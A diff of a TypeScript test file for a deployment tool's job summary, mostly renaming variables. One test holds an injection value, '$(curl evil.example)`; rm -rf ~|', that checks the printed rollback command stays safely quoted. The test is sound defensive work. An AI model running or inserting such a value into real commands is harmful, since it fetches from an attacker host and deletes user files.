@@ -23,7 +23,7 @@ const result: Result = {
 };
 const report = (change: Partial<Result> = {}, rest: Partial<Report> = {}): Report => ({
   result: { ...result, ...change },
-  asked: { manifest: 'delivery.yml', environment: 'production', version: '1.4.0' },
+  inputs: { manifest: 'delivery.yml', environment: 'production', version: '1.4.0' },
   timeline: [{ at: Date.parse('2026-01-05T09:10:00Z'), percent: 40, because: '1 of 4 instances | canary' }],
   url: 'https://github.com/octo/churn/actions/runs/7',
   remarks: [],
@@ -105,12 +105,12 @@ describe('the job summary', () => {
         },
       ],
     });
-    const told = (logEvidence: number): string => summaryOf(report({ findings: found(logEvidence) }));
-    expect(told(0)).toContain(
+    const reported = (logEvidence: number): string => summaryOf(report({ findings: found(logEvidence) }));
+    expect(reported(0)).toContain(
       '| 4xx answers | 30 of 900 (3.33 %) | 40 of 8100 (0.494 %) | unknown | 1, not judged | not required |',
     );
-    expect(told(0)).not.toContain('Remark');
-    expect(told(5)).toContain('Remark: 4xx answers, 30 of 900 (3.33 %) beside 40 of 8100 (0.494 %)');
+    expect(reported(0)).not.toContain('Remark');
+    expect(reported(5)).toContain('Remark: 4xx answers, 30 of 900 (3.33 %) beside 40 of 8100 (0.494 %)');
   });
 
   it('tells every reason with its remedy', () => {
@@ -127,8 +127,8 @@ describe('the job summary', () => {
   });
 
   it('prints a command that stays one, whatever the inputs say', () => {
-    const asked = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
-    const markdown = summaryOf(report({}, { asked }));
+    const requested = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
+    const markdown = summaryOf(report({}, { inputs: requested }));
     expect(markdown).toContain(
       "``model-delivery rollback --manifest 'a b.yml' --environment '$(curl evil.example)`; rm -rf ~``\\|`'`",
     );
@@ -158,8 +158,11 @@ describe('a result', () => {
   });
 
   it('leaves names of twelve digits alone, once the account is known', () => {
-    const said = withoutAccount('churn-202601011200 in 111122223333, sagemaker-eu-west-1-111122223333', '111122223333');
-    expect(said).toBe('churn-202601011200 in <account>, sagemaker-eu-west-1-<account>');
+    const reported = withoutAccount(
+      'churn-202601011200 in 111122223333, sagemaker-eu-west-1-111122223333',
+      '111122223333',
+    );
+    expect(reported).toBe('churn-202601011200 in <account>, sagemaker-eu-west-1-<account>');
     expect(withoutAccount('444455556666.dkr.ecr.eu-west-1.amazonaws.com/churn', '111122223333')).not.toContain('4444');
   });
 
